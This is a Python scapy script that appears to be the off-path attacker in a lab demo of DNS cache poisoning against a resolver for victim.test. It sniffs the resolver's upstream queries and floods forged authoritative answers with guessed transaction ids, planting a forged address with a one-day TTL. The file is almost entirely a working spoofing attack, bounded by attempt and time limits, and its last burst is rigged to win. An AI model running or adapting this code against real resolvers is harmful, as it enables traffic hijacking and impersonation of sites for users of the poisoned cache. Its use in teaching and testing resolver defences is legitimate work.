#!/usr/bin/python3
"""The off-path attacker of cap12_race.sh (scapy): waits for the resolver's queries to the
authoritative server of victim.test and races the (delayed) genuine answer with a burst of
forged responses that guess the transaction id.

    race_attacker.py IFACE AUTH_IP FORGED_IP BURST ATTEMPTS

It learns the resolver's port from the query it sees (a Kaminsky attacker guesses or floods
it as well) but not the id: each burst holds BURST responses with random ids. In the last
attempt the burst also carries the right id, so the forgery wins, the resolver caches it and
the genuine answer arrives after it. Bounded: exits after ATTEMPTS bursts or 60 s.
"""

from __future__ import annotations

import random
import sys
import time

import socket

from scapy.all import DNS, DNSQR, DNSRR, IP, UDP, AsyncSniffer, conf, raw  # type: ignore

iface, auth_ip, forged_ip, burst, attempts = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
conf.verb = 0
rng = random.Random(4242)
done = 0
deadline = time.time() + 60


def forge(pkt) -> None:  # type: ignore[no-untyped-def]
    global done
    if done >= attempts or not pkt.haslayer(DNS) or pkt[DNS].qr != 0 or pkt[IP].dst != auth_ip:
        return
    qname = pkt[DNSQR].qname
    if not qname.lower().endswith(b"victim.test."):
        return
    done += 1
    real_id = pkt[DNS].id
    ids = [rng.randrange(65536) for _ in range(burst)]
    ids = [i for i in ids if i != real_id]
    if done == attempts:
        ids.append(real_id)
    # scapy builds the answer once; the burst patches the id in place and goes out through a
    # raw socket, so 150 answers leave in a few milliseconds (UDP checksum 0: none, allowed on IPv4)
    template = bytearray(raw(
        IP(src=auth_ip, dst=pkt[IP].src) / UDP(sport=53, dport=pkt[UDP].sport, chksum=0)
        / DNS(id=0, qr=1, aa=1, rd=pkt[DNS].rd, qd=DNSQR(qname=qname, qtype="A"),
              an=DNSRR(rrname=qname, type="A", ttl=86400, rdata=forged_ip))))
    for i in ids:
        template[28:30] = i.to_bytes(2, "big")
        out.sendto(bytes(template), (pkt[IP].src, 0))


out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sniffer = AsyncSniffer(iface=iface, filter=f"udp and dst host {auth_ip} and dst port 53", prn=forge, store=False)
sniffer.start()
while done < attempts and time.time() < deadline:
    time.sleep(0.1)
time.sleep(1)
sniffer.stop()
print(f"bursts sent: {done}")
